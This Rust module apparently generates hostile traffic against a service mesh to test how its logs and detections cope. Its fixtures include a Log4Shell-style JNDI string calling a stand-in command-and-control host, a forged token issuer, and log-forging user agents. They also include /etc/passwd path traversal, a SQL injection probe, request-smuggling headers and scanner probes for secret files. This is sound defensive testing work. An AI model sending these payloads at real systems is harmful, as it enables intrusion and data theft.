//! Lines that no detection looks for yet, but that every decoder meets: bad tokens, hostile headers, broken requests,
//! scanners at the gateway, a handshake with a forged certificate.

use std::net::SocketAddrV4;

use super::{Stage, insist};
use crate::mesh::{
    client::{self, Request, Way},
    error::MeshError,
    jwt::{self, Login},
    running::SHOP,
    topology::Who,
};

/// Tokens that are expired, of an unknown key, of an unknown issuer, for somebody else, broken and missing.
pub(super) async fn tokens(stage: &Stage<'_>) -> Result<(), MeshError> {
    let login = &stage.mesh.login;
    let cases = [
        (Some(login.token(jwt::ISSUER, jwt::AUDIENCE, "c1001", -600)?), 401),
        (Some(Login::new()?.token(jwt::ISSUER, jwt::AUDIENCE, "c1001", 3600)?), 401),
        (Some(login.token("https://login.evil.example", jwt::AUDIENCE, "c1001", 3600)?), 401),
        (Some(login.token(jwt::ISSUER, "another-api", "c1001", 3600)?), 403),
        (Some("not.a-token".to_owned()), 401),
        (None, 403),
        (Some(login.token(jwt::ISSUER, jwt::AUDIENCE, "quote\" back\\slash \u{1f980} nul\0 end", 3600)?), 200),
    ];
    for _ in 0..3 {
        for (token, status) in &cases {
            let mut request = stage.get(Who::Orders, "/v1/account/settings").agent("reports/0.9");
            if let Some(token) = token {
                request = request.header("authorization", format!("Bearer {token}"));
            }
            stage.call(Who::Reports, Who::Orders, request, *status).await?;
        }
    }
    Ok(())
}

/// Headers that are hard to log, and headers that forge what is logged.
pub(super) async fn headers(stage: &Stage<'_>) -> Result<(), MeshError> {
    let agents: [&[u8]; 7] = [
        "say \"hi\" \\ \u{1f980} end".as_bytes(),
        b"caf\xc3\xa9 \xff\xfe latin",
        b"tab\there",
        b"x\" 200 - via_upstream - \"-\" 0 0 0 0 \"-\" \"fake",
        b"",
        b"${jndi:ldap://c2.evil.example/a}",
        &[b'a'; 3000],
    ];
    for agent in agents {
        let request = stage.get(Who::Orders, "/v1/orders").agent(agent);
        stage.call(Who::Recommender, Who::Orders, request, 200).await?;
    }
    for _ in 0..3 {
        let hidden = stage.get(Who::Payments, "/admin/secret").header("x-envoy-original-path", "/healthz");
        stage
            .call(Who::Recommender, Who::Payments, hidden.header("x-envoy-original-host", "good.example"), 403)
            .await?;
        let elsewhere = stage.get(Who::Orders, "/v1/orders").header("x-forwarded-for", "8.8.8.8");
        stage
            .call(Who::Recommender, Who::Orders, elsewhere.header("x-request-id", "not-a-uuid \u{1f980}"), 200)
            .await?;
    }
    for (path, status) in [("/v1/%00", 400), ("/v1/%zz", 200), ("/v1/../../%2e%2e/etc/passwd%2500", 200)] {
        stage.call(Who::Recommender, Who::Orders, stage.get(Who::Orders, path), status).await?;
    }
    Ok(())
}

/// What scanners do at the gateway.
pub(super) async fn gateway(stage: &Stage<'_>) -> Result<(), MeshError> {
    let topology = &stage.mesh.topology;
    let scanner = topology.customer(66);
    let ip = topology.pod(Who::Gateway).ip;
    let plain = Way::direct(scanner, SocketAddrV4::new(ip, topology.ports.gateway_http));
    let secure = Way::direct(scanner, SocketAddrV4::new(ip, topology.ports.gateway_https));
    let browser = &stage.mesh.browser;
    for path in ["/.env", "/.git/config", "/wp-login.php", "/actuator/env"] {
        let request = Request::get("unknown.example", path).agent("Mozilla/5.0 zgrab/0.x");
        let status = client::https(secure, browser, SHOP, request).await?;
        insist(|| "a host that the gateway does not know".to_owned(), status, 404)?;
    }
    for path in ["/search?q=%27%20OR%201=1--", "/static/../../etc/passwd", "/a%2f..%2fadmin", "//double//slash"] {
        let request = Request::get(SHOP, path).agent("sqlmap/1.8").header("x-forwarded-for", "10.1.2.3");
        insist(|| format!("{path} at the gateway"), client::https(secure, browser, SHOP, request).await?, 200)?;
    }
    for _ in 0..5 {
        client::refused_tls(secure, browser, "scanner.example").await?;
    }
    let broken = Request::get(SHOP, "/").raw(b"this is no header\r\n");
    insist(|| "a broken request".to_owned(), client::http(plain, broken).await?, 400)?;
    let smuggled = Request::new("POST", SHOP, "/").header("content-length", "3").header("transfer-encoding", "chunked");
    insist(|| "a smuggled request".to_owned(), client::http(plain, smuggled).await?, 400)?;
    let slow =
        stage.mesh.through(Who::Frontend, SocketAddrV4::new(topology.service_ip(Who::Orders), topology.ports.http));
    client::abort(slow, stage.get(Who::Orders, "/slow")).await
}

/// Handshakes that fail: of a pod that claims to be payments with a certificate of a strange root (three tries a
/// request), and of a pod whose certificate has expired. Only the caller's proxy logs them.
pub(super) async fn handshakes(stage: &Stage<'_>) -> Result<(), MeshError> {
    for _ in 0..3 {
        for from in [Who::Impostor, Who::Retired] {
            let request = stage.get(Who::Orders, "/v1/orders").agent("payments/2.0");
            stage.call(from, Who::Orders, request, 503).await?;
        }
    }
    Ok(())
}
